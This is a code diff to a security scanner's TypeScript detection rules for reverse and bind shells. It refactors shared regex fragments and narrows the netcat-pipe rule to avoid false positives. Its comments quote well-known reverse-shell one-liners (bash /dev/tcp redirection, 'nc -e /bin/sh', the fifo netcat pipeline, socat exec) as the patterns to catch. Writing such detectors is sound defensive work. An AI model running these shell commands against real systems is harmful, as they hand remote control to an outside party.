@@ -1,26 +1,24 @@
+import { IN_COMMAND, IN_PIPELINE, PIPE, READS_INPUT, SHELL } from "@/scanner/analysis/shell-line-patterns";
+
 // A shell or interpreter whose input is a network connection: the command lines the well-known
 // reverse (and bind) shells are made of. Each technique is a set of tests that must all match
 // the line; separate tests keep the search linear on long lines, where one pattern with several
 // `.*` would backtrack.
-const SHELL = String.raw`(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|mk|tc|c|a)?sh`;
 const NETCAT = String.raw`\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b`;
 // What a pipeline may read a connection with: netcat, telnet (whose -e is its escape character), openssl's client.
 const CONNECTORS = String.raw`${NETCAT}|\btelnet\b|\bopenssl\s+s_client\b`;
 const DEV_TCP = /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S/;
-// The rest of one command (redirections such as `2>&1` included), and of one pipeline: bounded,
-// so that a line of many shells or netcats is searched in linear time.
-const IN_COMMAND = String.raw`(?:[^;&|\n]|[<>]&){0,256}`;
-const IN_PIPELINE = String.raw`(?:[^;&\n]|[<>]&){0,256}`;
-
 const TECHNIQUES: { name: string; all: RegExp[] }[] = [
-  // `bash -i >& /dev/tcp/host/port 0>&1`, `sh -i 5<> /dev/tcp/host/port 0<&5`, `sh <&196`.
-  { name: "a shell reading bash's /dev/tcp", all: [DEV_TCP, new RegExp(String.raw`(?:^|[\s;&|(])${SHELL}\s+-i\b|\b0\s*>&\s*1\b|(?:^|[\s;&|(])${SHELL}\b${IN_COMMAND}\s0?<&\s*\d`)] },
+  // `bash -i >& /dev/tcp/host/port 0>&1`, `sh -i 5<> /dev/tcp/host/port 0<&5`, `sh <&196`,
+  // `/bin/sh 0</dev/tcp/host/port 1>&0 2>&0`.
+  { name: "a shell reading bash's /dev/tcp", all: [DEV_TCP, new RegExp(String.raw`(?:^|[\s;&|(])${SHELL}\s+-i\b|\b0\s*>&\s*1\b|(?:^|[\s;&|(])${SHELL}\b${IN_COMMAND}\s0?<(?:&\s*\d|\s*\/dev\/(?:tcp|udp)\/)`)] },
   // `exec 5<>/dev/tcp/host/port; cat <&5 | while read line; do $line 2>&5 >&5; done`.
   { name: "the lines read from bash's /dev/tcp run as commands", all: [DEV_TCP, /\bwhile\s+read\b[^;]{0,256};\s*do\s+\$\{?\w/] },
   // `nc -e /bin/sh host port`, `ncat --sh-exec …`, `nc -c bash …`.
   { name: "netcat running a program for the connection", all: [new RegExp(String.raw`(?:${NETCAT})${IN_COMMAND}\s(?:-[a-zA-Z]*e\b|--(?:sh-|lua-)?exec\b|-c\s+['"]?${SHELL}\b)`)] },
-  // `nc host port | sh`, and the fifo form `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`.
-  { name: "a shell piped to and from netcat", all: [new RegExp(String.raw`(?:${CONNECTORS})${IN_PIPELINE}\|\s*${SHELL}\b|(?:^|[\s;&|(])${SHELL}\s+-i\b${IN_PIPELINE}\|\s*(?:${CONNECTORS})`)] },
+  // `nc host port | sh`, and the fifo form `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`
+  // (the shell reading its input, not a script of its own: `nc -z … || sh ./start.sh` is none).
+  { name: "a shell piped to and from netcat", all: [new RegExp(String.raw`(?:${CONNECTORS})${IN_PIPELINE}${PIPE}\s*${SHELL}${READS_INPUT}|(?:^|[\s;&(]|${PIPE})\s*${SHELL}${READS_INPUT}${IN_PIPELINE}${PIPE}\s*(?:${CONNECTORS})`)] },
   // `socat tcp:host:port exec:'bash -li',pty,stderr`.
   { name: "socat joining a connection to a program", all: [/\bsocat\b/, /\b(?:exec|system):/i, /\b(?:tcp|udp|ssl|openssl)[46]?(?:-connect|-listen|-l)?:/i] },
   // The one-liners of the interpreters: a socket made the input of a shell or of what it runs.
